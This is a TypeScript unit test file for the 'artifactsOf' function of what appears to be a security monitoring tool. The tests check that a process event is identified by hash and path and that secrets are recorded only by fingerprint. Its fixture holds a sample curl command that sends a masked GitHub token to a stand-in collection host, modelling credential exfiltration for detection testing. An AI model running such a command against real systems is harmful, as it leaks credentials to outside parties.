import type { Observation } from '@tidewaiter/domain';
import { factContext, factsFromFile } from '@tidewaiter/facts';

import { artifactsOf } from './artifacts.js';

const facts = factContext(factsFromFile({}));

const exec = {
  activity: 'exec',
  process: {
    executable: '/usr/bin/curl',
    commandLine: 'curl -u ci:gh**yz https://collect.example',
    sha256: 'ab'.repeat(32),
  },
} as Observation;

describe('artifactsOf', () => {
  it('identifies the program of an exec event by hash and path', () => {
    expect(artifactsOf(exec, facts)).toEqual([
      { kind: 'sha256', value: 'ab'.repeat(32) },
      { kind: 'path', value: '/usr/bin/curl' },
    ]);
  });

  it('identifies every secret of an event by its fingerprint only', () => {
    const secrets = [
      { rule: 'github-token', masked: 'gh**yz', fingerprint: 'f1' },
      { rule: 'aws-access-key-id', masked: 'AKIA**MPLE', fingerprint: 'f2' },
    ];
    const found = artifactsOf({ ...exec, secrets }, facts).filter(({ kind }) => kind === 'secret');
    expect(found).toEqual([
      { kind: 'secret', value: 'f1' },
      { kind: 'secret', value: 'f2' },
    ]);
  });
});
